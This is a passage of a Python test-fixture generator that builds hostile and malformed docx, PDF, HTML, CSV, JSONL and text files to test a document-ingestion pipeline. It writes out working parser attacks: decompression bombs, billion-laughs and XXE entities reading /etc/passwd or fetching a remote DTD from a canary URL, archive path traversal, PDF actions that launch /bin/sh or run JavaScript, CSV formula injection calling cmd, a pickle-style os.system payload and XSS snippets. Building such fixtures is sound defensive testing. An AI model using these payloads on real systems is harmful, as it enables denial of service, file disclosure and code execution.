"""A corpus of hostile and broken documents, made by code: nothing of it is stored."""

from __future__ import annotations

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import lru_cache, partial

import docx

MB = 1024 * 1024
TEXT = b"Every full-time employee has 27 days of paid annual leave in a calendar year. " * 3
BAD_LINE = 777_777
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_HEADS = {
    "pdf": b"%PDF-1.7\n", "zip": b"PK\x03\x04", "png": b"\x89PNG\r\n\x1a\n", "jpeg": b"\xff\xd8\xff\xe0",
    "gzip": b"\x1f\x8b\x08", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "elf": b"\x7fELF\x02", "rtf": b"{\\rtf1 ",
    "sqlite": b"SQLite format 3\x00", "rar": b"Rar!\x1a\x07", "7z": b"7z\xbc\xaf\x27\x1c",
}  # fmt: skip
Make = Callable[[], bytes]


@dataclass(frozen=True)
class HostileFile:
    """One file. `may_be_read`: it is strange, but holds text that may be learned from."""

    label: str
    filename: str
    make: Make
    may_be_read: bool = False
    words: str | None = None  # what the complaint must say


def corpus(canary_url: str, seed: int) -> list[HostileFile]:
    """All of it; what refers to something outside refers to `canary_url`."""
    chance = random.Random(seed)
    return [
        *_of_kind("docx", _docx(canary_url, chance)),
        *_of_kind("pdf", _pdf(canary_url, chance)),
        *_of_kind("html", _html(canary_url)),
        *_of_kind("csv", _csv()),
        *_of_kind("jsonl", _jsonl()),
        *_of_kind("txt", _txt(chance)),
        *_of_kind("md", _md(canary_url)),
        HostileFile("jsonl: one bad line in a million", "million.jsonl", _million_lines, words=f"Line {BAD_LINE}"),
        *_names(),
        *_mislabelled(),
        *_empty(),
        *_truncated(chance),
        *_garbage(chance),
    ]


def _of_kind(kind: str, made: Mapping[str, Make | bytes]) -> Iterator[HostileFile]:
    """A label that ends with `?` may be read."""
    for number, (label, content) in enumerate(made.items()):
        make = content if callable(content) else partial(bytes, content)
        yield HostileFile(f"{kind}: {label.rstrip('?')}", f"{kind}-{number}.{kind}", make, label.endswith("?"))


# docx


@lru_cache
def good_docx() -> bytes:
    document, buffer = docx.Document(), io.BytesIO()
    document.add_heading("Leave", level=1)
    document.add_paragraph(TEXT.decode())
    document.save(buffer)
    return buffer.getvalue()


def _changed(changes: Mapping[str, bytes | None], more: bytes = b"") -> bytes:
    """The good docx with other parts: None leaves one out. `more` is stored as it is, so that no ratio looks odd."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good_docx())) as good,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
    ):
        parts: dict[str, bytes | None] = {name: good.read(name) for name in good.namelist()}
        for name, content in {**parts, **changes}.items():
            if content is not None:
                made.writestr(name, content)
        if more:
            made.writestr("word/media/noise.bin", more, zipfile.ZIP_STORED)
    return buffer.getvalue()


def _body(xml: str, doctype: str = "") -> Make:
    content = f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{xml}</w:body></w:document>'
    return lambda: _changed({"word/document.xml": content.encode()})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _laughs(levels: int = 9) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f'<!DOCTYPE d [<!ENTITY l0 "lol">{entities}]>'


def _paragraphs(number: int, noise: random.Random) -> bytes:
    xml = f'<?xml version="1.0"?><w:document {_W}><w:body>'.encode() + b"<w:p/>" * number + b"</w:body></w:document>"
    return _changed({"word/document.xml": xml}, noise.randbytes(number * 6 // 80))


def _overlapping(number: int) -> bytes:
    """Many names in the directory for one and the same compressed megabyte."""
    buffer = io.BytesIO(good_docx())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/media/0", bytes(MB))
        first = made.infolist()[-1]
        for count in range(1, number):
            entry = zipfile.ZipInfo(f"word/media/{count}")
            for name in ("header_offset", "compress_type", "CRC", "compress_size", "file_size"):
                setattr(entry, name, getattr(first, name))
            made.filelist.append(entry)
            made.NameToInfo[entry.filename] = entry
    return buffer.getvalue()


def _lying(told: int, part: str = "word/document.xml") -> bytes:
    """The directory announces another size than the part has."""
    with zipfile.ZipFile(io.BytesIO(good_docx())) as good:
        real = good.getinfo(part).file_size
    return good_docx().replace(real.to_bytes(4, "little"), told.to_bytes(4, "little"))


def _patched(offset: int, value: bytes) -> bytes:
    """Every entry of the directory with other bytes at `offset` of it."""
    content = bytearray(good_docx())
    start = content.find(b"PK\x01\x02")
    while start >= 0:
        content[start + offset : start + offset + len(value)] = value
        start = content.find(b"PK\x01\x02", start + 4)
    return bytes(content)


def _docx(url: str, chance: random.Random) -> dict[str, Make | bytes]:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
        "</Relationships>"
    )
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def related(*kinds: str) -> bytes:
        told = "".join(
            f'<Relationship Id="x{n}" Type="{base}/{kind}" Target="{url}/{kind}" TargetMode="External"/>'
            for n, kind in enumerate(kinds)
        )
        return rels.format(told).encode()

    external = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{url}/xxe">]>'
    local = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    remote_dtd = f'<!DOCTYPE d SYSTEM "{url}/evil.dtd">'
    parameter = f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{url}/evil.dtd"> %x;]>'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/include" parse="text"/>'
    quadratic = f'<!DOCTYPE d [<!ENTITY a "{"a" * 100_000}">]>'
    return {
        "64 MB of one letter in a part": lambda: _changed({"word/media/bomb.bin": b"a" * 64 * MB}),
        "40 MB of spaces in the text": lambda: _changed({"word/document.xml": b" " * 40 * MB}),
        "a bomb beside noise that hides its ratio": lambda: _changed(
            {"word/media/b.bin": bytes(210 * MB)}, chance.randbytes(3 * MB)
        ),
        "2,001 entries": lambda: _changed({f"word/media/{n}": b"" for n in range(2_001)}),
        "30,000 entries": lambda: _changed({f"m/{n}": b"" for n in range(30_000)}),
        "an archive in an archive?": lambda: _changed(
            {"word/embeddings/a.zip": _changed({"word/media/bomb.bin": bytes(8 * MB)})}
        ),
        "1,500 names for one megabyte": lambda: _overlapping(1_500),
        "a size that is too small?": lambda: _lying(10),
        "a size that is too large?": lambda: _lying(2**31),
        "encrypted entries": lambda: _patched(8, b"\x01\x00"),
        "an unknown compression": lambda: _patched(10, b"\x63\x00"),
        "offsets behind the end": lambda: _patched(42, b"\xff\xff\xff\x7f"),
        "wrong checksums": lambda: _patched(16, b"\x00\x00\x00\x01"),
        "a billion laughs": _body(_paragraph("&l9;"), _laughs()),
        "quadratic entities": _body(_paragraph("&a;" * 5_000), quadratic),
        "an external entity?": _body(_paragraph("&x;" + TEXT.decode()), external),
        "an entity of a local file?": _body(_paragraph("&x;" + TEXT.decode()), local),
        "a document type from elsewhere?": _body(_paragraph(TEXT.decode()), remote_dtd),
        "a parameter entity?": _body(_paragraph(TEXT.decode()), parameter),
        "an XInclude?": _body(include + _paragraph(TEXT.decode())),
        "elements 100,000 deep": _body("<w:p>" * 100_000 + "</w:p>" * 100_000),
        "tables 2,000 deep": _body("<w:tbl><w:tr><w:tc>" * 2_000 + "</w:tc></w:tr></w:tbl>" * 2_000),
        "4 million paragraphs": lambda: _paragraphs(4_000_000, chance),
        "an attribute of 20 MB": lambda: _changed(
            {"word/document.xml": f'<w:document {_W} w:x="{"a" * 20 * MB}"/>'.encode()}, chance.randbytes(MB)
        ),
        "100,000 attributes": _body("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
        "pictures and templates from elsewhere?": lambda: _changed(
            {"word/_rels/document.xml.rels": related("image", "attachedTemplate", "oleObject", "frame", "hyperlink")}
        ),
        "nothing but references": lambda: _changed({"_rels/.rels": related("officeDocument")}),
        "references to itself?": lambda: _changed(
            {"word/_rels/document.xml.rels": rels.format(
                f'<Relationship Id="a" Type="{base}/image" Target="document.xml"/>').encode()}
        ),
        "references out of the archive?": lambda: _changed(
            {"word/_rels/document.xml.rels": rels.format(
                f'<Relationship Id="a" Type="{base}/image" Target="../../../../etc/passwd"/>').encode()}
        ),
        "styles that build on each other?": lambda: _changed({"word/styles.xml": (
            f'<w:styles {_W}><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
            '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
        ).encode()}),
        "no content types": lambda: _changed({"[Content_Types].xml": None}),
        "no references": lambda: _changed({"_rels/.rels": None}),
        "no styles?": lambda: _changed({"word/styles.xml": None}),
        "no text": lambda: _changed({"word/document.xml": b""}),
        "a text that is no XML": lambda: _changed({"word/document.xml": b"<w:document"}),
        "a text of another schema": lambda: _changed({"word/document.xml": b"<html><body>x</body></html>"}),
        "no body": lambda: _changed({"word/document.xml": f"<w:document {_W}/>".encode()}),
        "null bytes in the text": lambda: _changed({"word/document.xml": b"\x00" * 1000}),
        "names that lead elsewhere?": lambda: _changed(
            dict.fromkeys(("../../../../tmp/evil", "/etc/evil", "C:\\evil"), b"x")
        ),
        "no entry at all": b"PK\x05\x06" + bytes(18),
        "an archive of another program": lambda: _zip({"xl/workbook.xml": b"<x/>"}),
        "garbage before the archive": lambda: b"x" * 1000 + good_docx(),
        "garbage behind the archive?": lambda: good_docx() + b"x" * 1000,
        "a comment of 64 kB?": lambda: good_docx()[:-2] + (65_535).to_bytes(2, "little") + b"x" * 65_535,
        "an encrypted Office file": _HEADS["ole"] + bytes(9_000) + "EncryptedPackage".encode("utf-16-le"),
        "an old Office file": _HEADS["ole"] + bytes(9_000),
    }  # fmt: skip


def _zip(entries: Mapping[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return buffer.getvalue()


# PDF


_TRAILER = b"<< /Size 99 /Root 1 0 R >>"


def pdf(objects: Mapping[int, bytes], trailer: bytes = _TRAILER, xref: bytes | None = None) -> bytes:
    """A file of these objects with a correct table, or with `xref` in its place."""
    content, offsets = b"%PDF-1.7\n", {}
    for number, value in objects.items():
        offsets[number] = len(content)
        content += b"%d 0 obj\n%b\nendobj\n" % (number, value)
    start = len(content)
    entries = b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in offsets.items())
    table = b"xref\n0 1\n0000000000 65535 f \n" + entries if xref is None else xref
    return content + table + b"trailer\n%b\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)


def _stream(data: bytes, told: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), told, data)


def _page(content: bytes, more: bytes = b"", **objects: bytes) -> dict[int, bytes]:
    """The objects of a document of one page; further ones are named `o10`, `o11` …"""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % more,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> "
        b"/XObject << /X 10 0 R >> >> >>",
        4: content,
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        **{int(name[1:]): value for name, value in objects.items()},
    }


_SHOWN = b"BT /F 12 Tf 72 700 Td (%b) Tj ET" % TEXT


@lru_cache
def good_pdf() -> bytes:
    return pdf(_page(_stream(_SHOWN)))


@lru_cache
def _zeros() -> bytes:
    """300 MB of them, compressed."""
    return zlib.compress(bytes(300 * MB), 1)


def _flate(data: bytes, times: int = 1, packed: int = 0) -> bytes:
    """Compressed `times`, of which `packed` are done."""
    for _ in range(times - packed):
        data = zlib.compress(data, 9)
    return _stream(data, b"/Filter [%b]" % (b"/FlateDecode " * times))


def _lzw_bomb() -> bytes:
    """9 bits a code, always one that names the longest text so far."""
    codes = [256, 97, *range(258, 511)] * 40
    bits = "".join(f"{code:09b}" for code in codes)
    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")


def _tree(width: int, depth: int) -> dict[int, bytes]:
    """width ** depth pages by objects that are shared."""
    levels = {
        10 + n: b"<< /Type /Pages /Count %d /Kids [%b] >>" % (width ** (depth - n), b"%d 0 R " % (11 + n) * width)
        for n in range(depth)
    }
    leaf = b"<< /Type /Page /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    catalog = b"<< /Type /Catalog /Pages 10 0 R >>"
    return {1: catalog, 4: _stream(_SHOWN), **levels, 10 + depth: leaf}


def _pages(kids: bytes, count: int = 1) -> dict[int, bytes]:
    return {**_page(_stream(_SHOWN)), 2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)}


def _xref_stream(told: bytes, data: bytes = bytes(60)) -> bytes:
    start = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    table = b"9 0 obj\n" + _stream(data, b"/Type /XRef /Root 1 0 R " + told) + b"\nendobj\n"
    return start + table + b"startxref\n%d\n%%%%EOF" % len(start)


def _object_stream(told: bytes, data: bytes) -> dict[int, bytes]:
    return _page(_stream(_SHOWN), b"/Names 12 0 R", o10=_stream(data, b"/Type /ObjStm " + told))


def _many_pages(number: int) -> bytes:
    content = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    kids = b"3 0 R " * number
    content += b"2 0 obj << /Type /Pages /Count %d /Kids [%b] >> endobj\n" % (number, kids)
    content += b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n"
    return content + b"trailer << /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF"


def _pdf(url: str, chance: random.Random) -> dict[str, Make | bytes]:
    link = url.encode()
    action = b"/OpenAction << /S /%b /%b (%b) >>"
    loop = b"<< /Length %d /Subtype /Form /Type /XObject /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >> >>"
    calls = b"/X Do " * 50
    form = loop % len(calls) + b"\nstream\n" + calls + b"\nendstream"
    cmap = b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange " + b"".join(
        b"1 beginbfrange <0000> <ffff> <%04x> endbfrange " % n for n in range(200)
    )
    unicode_font = b"<< /Type /Font /Subtype /Type0 /BaseFont /F /Encoding /Identity-H /ToUnicode 10 0 R >>"
    pickled = unicode_font.replace(b"/Identity-H", b"/#2e#2e#2f#2e#2e#2ftmp#2fevil")
    return {
        "a page that is its own parent's parent": lambda: pdf(_pages(b"2 0 R")),
        "two nodes that hold each other": lambda: pdf(
            {**_pages(b"6 0 R"), 6: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}
        ),
        "2 ** 31 pages announced?": lambda: pdf(_pages(b"3 0 R", 2**31)),
        "-1 pages announced?": lambda: pdf(_pages(b"3 0 R", -1)),
        "a million pages by reference": lambda: pdf(_tree(100, 3)),
        "10 ** 27 pages by reference": lambda: pdf(_tree(1_000, 9)),
        "a million pages that are one": lambda: _many_pages(1_000_000),
        "pages that are missing": lambda: pdf(_pages(b"77 0 R 78 0 R")),
        "pages that are numbers": lambda: pdf(_pages(b"1 2 3")),
        "no pages": lambda: pdf({1: b"<< /Type /Catalog >>"}),
        "a catalog that is itself": lambda: pdf({1: b"1 0 R"}),
        "a table that comes before itself?": lambda: pdf(
            _page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Prev %d >>" % good_pdf().index(b"xref\n")
        ),
        "a table before the file?": lambda: pdf(_page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Prev -5 >>"),
        "a table behind the file?": lambda: pdf(_page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Prev 99999999 >>"),
        "a table of 2 ** 31 entries?": lambda: pdf(_page(_stream(_SHOWN)), xref=b"xref\n0 2147483647\n"),
        "a table of garbage?": lambda: pdf(_page(_stream(_SHOWN)), xref=chance.randbytes(500)),
        "no trailer": b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "nothing but its first line": b"%PDF-1.7\n",
        "a table stream of 2 ** 31 columns": lambda: _xref_stream(b"/W [1 2147483647 1] /Size 3"),
        "a table stream of negative columns": lambda: _xref_stream(b"/W [-1 -2 -1] /Size 3"),
        "a table stream of a huge index": lambda: _xref_stream(b"/W [1 2 1] /Index [0 2147483647] /Size 3"),
        "a table stream that comes before itself": lambda: _xref_stream(b"/W [1 2 1] /Size 3 /Prev 46"),
        "a table stream with a predictor of 2 ** 31": lambda: _xref_stream(
            b"/W [1 2 1] /Size 3 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 >>",
            zlib.compress(bytes(60)),
        ),
        "an object stream in itself?": lambda: pdf(_object_stream(b"/N 1 /First 5 /Extends 10 0 R", b"10 0 10 0 R")),
        "an object stream of 2 ** 31 objects?": lambda: pdf(_object_stream(b"/N 2147483647 /First 4", b"12 0 <<>>")),
        "an object stream that begins before itself?": lambda: pdf(_object_stream(b"/N 1 /First -40", b"12 0 <<>>")),
        "a length that is the stream": lambda: pdf(_page(b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream")),
        "a length of 2 ** 40?": lambda: pdf(_page(b"<< /Length 1099511627776 >>\nstream\n%b\nendstream" % _SHOWN)),
        "a length of -1?": lambda: pdf(_page(b"<< /Length -1 >>\nstream\n%b\nendstream" % _SHOWN)),
        "300 MB in a megabyte by Flate": lambda: pdf(_page(_flate(_zeros(), 1, packed=1))),
        "300 MB in 10 kB by Flate twice": lambda: pdf(_page(_flate(_zeros(), 2, packed=1))),
        "Flate forty times?": lambda: pdf(_page(_flate(_SHOWN, 40))),
        "Flate of garbage": lambda: pdf(_page(_stream(chance.randbytes(5_000), b"/Filter /FlateDecode"))),
        "an LZW bomb": lambda: pdf(_page(_stream(_lzw_bomb() * 20, b"/Filter /LZWDecode"))),
        "runs of runs": lambda: pdf(
            _page(_stream(b"\x81a" * MB, b"/Filter [/RunLengthDecode /RunLengthDecode /RunLengthDecode]"))
        ),
        "an unknown filter": lambda: pdf(_page(_stream(_SHOWN, b"/Filter /EvilDecode"))),
        "a picture of 2 ** 31 points?": lambda: pdf(
            _page(_stream(_SHOWN + b" /X Do"), o10=_stream(b"x", b"/Subtype /Image /Width 2147483647 /Height 9"))
        ),
        "a form that draws itself?": lambda: pdf(_page(_stream(_SHOWN + b" /X Do"), o10=form)),
        "nothing but a form that draws itself": lambda: pdf(_page(_stream(b"/X Do"), o10=form)),
        "a table of letters of 13 million entries?": lambda: pdf(
            {**_page(_stream(_SHOWN)), 5: unicode_font, 10: _stream(cmap)}
        ),
        "letters by a file outside?": lambda: pdf({**_page(_stream(_SHOWN)), 5: pickled, 10: _stream(b"x")}),
        "a font that is its own descendant?": lambda: pdf(
            {**_page(_stream(_SHOWN)), 5: b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /BaseFont /F >>"}
        ),
        "lists 100,000 deep?": lambda: pdf(_page(_stream(_SHOWN), b"/X " + b"[" * 100_000 + b"]" * 100_000)),
        "dictionaries 20,000 deep?": lambda: pdf(_page(_stream(_SHOWN), b"/X " + b"<</A " * 20_000 + b">>" * 20_000)),
        "lists 100,000 deep in a page": lambda: pdf(_page(_stream(b"BT " + b"[" * 100_000))),
        "brackets 100,000 deep in a page": lambda: pdf(_page(_stream(b"BT " + b"(" * 100_000))),
        "300,000 operators?": lambda: pdf(_page(_stream(b"BT /F 12 Tf " + b"0 0 Td (a) Tj " * 300_000 + b"ET"))),
        "a million saved states": lambda: pdf(_page(_stream(b"q " * 1_000_000))),
        "letters of a size that is no number?": lambda: pdf(_page(_stream(b"BT /F 1e999 Tf (%b) Tj ET" % TEXT))),
        "letters of a size of 400 digits?": lambda: pdf(
            _page(_stream(b"BT /F " + b"9" * 400 + b" Tf (" + TEXT + b") Tj ET"))
        ),
        "a number of 100,000 digits?": lambda: pdf(_page(_stream(_SHOWN), b"/X " + b"9" * 100_000)),
        "a name of a megabyte?": lambda: pdf(_page(_stream(_SHOWN), b"/" + b"a" * MB + b" 1")),
        "a program that runs when it is opened?": lambda: pdf(
            _page(_stream(_SHOWN), action % (b"JavaScript", b"JS", b"while(1){}"))
        ),
        "an address that is asked when it is opened?": lambda: pdf(
            _page(_stream(_SHOWN), action % (b"URI", b"URI", link + b"/pdf"))
        ),
        "a program of the machine?": lambda: pdf(_page(_stream(_SHOWN), action % (b"Launch", b"F", b"/bin/sh"))),
        "a form that is sent?": lambda: pdf(_page(_stream(_SHOWN), action % (b"SubmitForm", b"F", link + b"/form"))),
        "a stream that lies elsewhere": lambda: pdf(
            _page(_stream(b"", b"/F << /FS /URL /F (%b/stream) >>" % link))
        ),
        "an unknown cipher": lambda: pdf(
            _page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Encrypt << /Filter /Evil /V 9 >> /ID [(a) (b)] >>"
        ),
        "a cipher without a key": lambda: pdf(
            _page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 >> >>"
        ),
        "a cipher that is itself?": lambda: pdf(_page(_stream(_SHOWN)), b"<< /Size 9 /Root 1 0 R /Encrypt 1 0 R >>"),
        "outlines that go round?": lambda: pdf(
            _page(_stream(_SHOWN), b"/Outlines 10 0 R", o10=b"<< /First 10 0 R /Next 10 0 R >>")
        ),
        "a megabyte before its first line": lambda: b"x" * MB + good_pdf(),
        "no object, and 5 MB of garbage": lambda: b"%PDF-1.7\n" + chance.randbytes(5 * MB),
        "5 MB of beginnings of objects": lambda: b"%PDF-1.7\n" + b"1 0 obj\n" * 600_000,
    }  # fmt: skip


# Texts


def _html(url: str) -> dict[str, Make | bytes]:
    page = b"<html><body><h1>Leave</h1><p>%b</p>%%b</body></html>" % TEXT
    return {
        **{
            f"<{tag}> {depth:,} deep?": partial(lambda tag, depth: page % (b"<%b>" % tag.encode() * depth), tag, depth)
            for tag, depth in (("div", 100_000), ("b", 30_000), ("table", 30_000), ("span", 100_000), ("ul", 50_000))
        },
        "closed 100,000 times?": lambda: page % (b"</div>" * 100_000),
        "an attribute of 5 MB?": lambda: page % (b"<p title='%b'>x</p>" % (b"a" * 5 * MB)),
        "100,000 attributes?": lambda: page % (b"<p %b>x</p>" % b" ".join(b"a%d=1" % n for n in range(100_000))),
        "200,000 paragraphs?": lambda: page % (b"<p>word" * 200_000),
        "100,000 links?": lambda: page % (b"<a href='/x'>word</a> " * 100_000),
        "a comment without an end?": lambda: page % (b"<!--" * 100_000),
        "5 MB of spaces?": lambda: page % (b" " * 5 * MB),
        "5 MB of line ends in a tag?": lambda: page % (b"<p" + b"\n" * 5 * MB + b">x</p>"),
        "a million entities?": lambda: page % (b"&amp;" * 1_000_000),
        "a billion laughs?": lambda: _laughs().encode() + page % b"&l9;",
        "a number that is no letter?": page % b"&#99999999999;&#0;&#xD800;",
        "pictures, frames and styles from elsewhere?": page
        % "".join(
            f"<{tag}='{url}/{tag.split()[0]}'></{tag.split()[0]}>"
            for tag in ("img src", "iframe src", "script src", "link rel=stylesheet href", "object data", "video src")
        ).encode(),
        "a page that goes elsewhere?": page % f"<meta http-equiv=refresh content='0;url={url}/refresh'>".encode(),
        "another base?": page % f"<base href='{url}/base'><img src=x><a href=y>z</a>".encode(),
        "an external entity?": f"<!DOCTYPE html [<!ENTITY x SYSTEM '{url}/x'>]>".encode() + page % b"&x;",
        "a program?": page % b"<script>while(1){}</script><img src=x onerror=alert(1)><svg onload=alert(1)>",
        "an encoding that does not exist?": b"<meta charset=evil-8>" + page % b"",
        "an encoding that is a program?": b"<meta charset=zlib_codec>" + page % b"",
        "utf-7?": b"<meta charset=utf-7>" + page % b"+ADw-script+AD4-",
        "unicode escapes?": b"<meta charset=unicode_escape>" + page % b"\\ud800\\N{LATIN SMALL LETTER A}",
        "idna?": b"<meta charset=idna>" + page % (b"a." * 100_000),
        "null bytes far inside": lambda: page % (b"word " * 5_000 + b"\x00"),
        "control characters?": page % bytes(range(1, 32)),
        "a data address of 5 MB?": lambda: page % (b"<img src='data:image/png;base64,%b'>" % (b"A" * 5 * MB)),
        "nothing to read": b"<html><body><script>x</script></body></html>",
    }


def _csv() -> dict[str, Make | bytes]:
    head = b"question,answer\n"
    return {
        "a line of 10 MB?": lambda: head + b"Who?," + b"a" * 10 * MB + b"\n",
        "a quote without an end": lambda: head + b'Who?,"' + b"a,b\n" * 500_000,
        "a million quotes": lambda: head + b'"' * 1_000_001,
        "null bytes": lambda: head + b"Who?,Od\x00ile\n",
        "null bytes far inside": lambda: head + b"Who?,Odile\n" * 5_000 + b"\x00",
        "formulas?": head + b"=cmd|'/C calc'!A0,@SUM(1+1)*cmd\n+1,-1\n" * 9,
        "100,000 columns": lambda: b",".join(b"c%d" % n for n in range(100_000)) + b"\n1\n",
        "100,000 columns of one name": lambda: b"a," * 100_000 + b"\n",
        "a row of 100,000 columns": lambda: head + b"a," * 100_000 + b"\n",
        "nothing but separators": b",,,,\n,,,,\n",
        "nothing but its first line": head,
        "line ends of three kinds?": b"question,answer\rWho?,Odile\r\nWhat?,Heron\n",
        "carriage returns alone?": lambda: b"question,answer\r" + b"Who?,Odile\r" * 1000,
        "numbers for names": b"1,2\n3,4\n",
        "quotes within": head + b'Who?,a"b"c"\n"x"y,z\n',
        "Latin bytes?": head + "Wär's?,Jä\n".encode("latin-1") * 9,
        "UTF-16 without a mark": head.decode().encode("utf-16-le") * 9,
        "bytes that are no encoding's?": head + b"Who?,\x81\x8d\x8f\x90\x9d\n",
    }


def _jsonl() -> dict[str, Make | bytes]:
    good = b'{"question": "Who?", "answer": "Odile"}\n'
    ask = b'{"question": "Who?", "answer": %b}\n'
    return {
        "lists 100,000 deep": lambda: good + b"[" * 100_000 + b"\n",
        "objects 100,000 deep": lambda: good + b'{"a":' * 100_000 + b"\n",
        "lists 100,000 deep in a field": lambda: good + ask % (b"[" * 100_000 + b"]" * 100_000),
        "a number of 100,000 digits": lambda: good + ask % (b"9" * 100_000),
        "not a number": good + ask % b"NaN",
        "without end": good + ask % b"-Infinity",
        "1e999": good + ask % b"1e999",
        "a field twice?": good + b'{"question": "a", "question": "Who?", "answer": "b"}\n' * 2,
        "half a pair?": good + ask % b'"\\ud800 and \\udfff words"',
        "null characters?": good + ask % b'"a\\u0000b"',
        "null bytes": good * 200 + b"\x00\n",
        "a list": good + b"[1]\n",
        "a text": good + b'"text"\n',
        "nothing": good + b"null\n",
        "a line of 9 MB?": lambda: good + ask % (b'"' + b"a" * 9 * MB + b'"'),
        "no line ends": lambda: good.strip() * 1_000,
        "UTF-16 without a mark": (good.decode() * 9).encode("utf-16-le"),
        "bytes that are no UTF-8?": good + ask % b'"\xff\xfe\xc0\xaf"',
        "overlong slashes?": good + ask % b'"\xc0\xaf\xe0\x80\xaf"',
        "messages without an answer": b'{"messages": [{"role": "user", "content": "a"}]}\n',
        "a role of its own": b'{"messages": [{"role": "__proto__", "content": "a"}]}\n',
        "100,000 messages": lambda: (
            b'{"messages": [' + b",".join([b'{"role": "user", "content": "a"}'] * 100_000) + b"]}\n"
        ),
        "content that is an object": good + ask % b'{"$ref": "file:///etc/passwd"}',
        "a class that is to be made": good + b'{"__reduce__": ["os.system", ["id"]], "py/object": "os.system"}\n',
        "100,000 fields": lambda: b"{" + b",".join(b'"f%d": 1' % n for n in range(100_000)) + b"}\n",
        "a weight of two": b'{"messages": [{"role": "assistant", "content": "a", "weight": 2}]}\n',
        "its first line cut off": good[:-9],
    }


def _million_lines() -> bytes:
    lines = [b'{"text":"a"}'] * 1_000_000
    lines[BAD_LINE - 1] = b'{"text":"a"'
    return b"\n".join(lines)


def _txt(chance: random.Random) -> dict[str, Make | bytes]:
    return {
        "UTF-16 without a mark": TEXT.decode().encode("utf-16-le"),
        "UTF-32": TEXT.decode().encode("utf-32"),
        "half of UTF-16?": b"\xff\xfe" + TEXT.decode().encode("utf-16-le")[:-1],
        "UTF-16 with lonely halves?": b"\xff\xfe" + b"a\x00" * 500 + b"\x00\xd8" * 50,
        "bytes that are no UTF-8?": TEXT + b"\xff\xfe\x80",
        "overlong slashes?": TEXT + b"\xc0\xaf\xe0\x80\xaf",
        "bytes that are no encoding's": TEXT + b"\x81\x8d\x8f\x90\x9d",
        "null bytes far inside": lambda: TEXT * 100 + b"\x00",
        "a line of 10 MB?": lambda: b"word " * 2 * MB,
        "a word of 10 MB?": lambda: b"w" * 10 * MB,
        "10 million line ends": lambda: b"\n" * 10 * MB,
        "invisible characters": "\u200b\ufeff\u00ad\u2060".encode() * 900,
        "control characters": bytes(range(1, 9)) * 900,
        "from right to left?": "\u202eevil\u202c \u2066text\u2069 and more words ".encode() * 9,
        "100,000 accents on a letter?": ("words " * 20 + "a" + "\u0301" * 100_000).encode(),
        "letters of many parts?": "\ufdfa".encode() * 50_000,
        "noise": lambda: chance.randbytes(300_000).replace(b"\x00", b"\x01"),
        "escape sequences?": b"\x1b[2J\x1b]0;evil\x07 words " * 50,
    }


def _md(url: str) -> dict[str, Make | bytes]:
    text = TEXT.decode().encode()
    return {
        "100,000 pictures without an end?": lambda: text + b"![" * 100_000,
        "100,000 comments without an end?": lambda: text + b"<!--" * 100_000,
        "100,000 comments that end twice?": lambda: text + b"<!-- --" * 100_000,
        "a million hashes?": lambda: text + b"#" * 1_000_000,
        "50,000 headings?": lambda: text + b"# a\n" * 50_000,
        "a heading of spaces?": lambda: text + b"# a" + b" \t" * 100_000 + b"b\n",
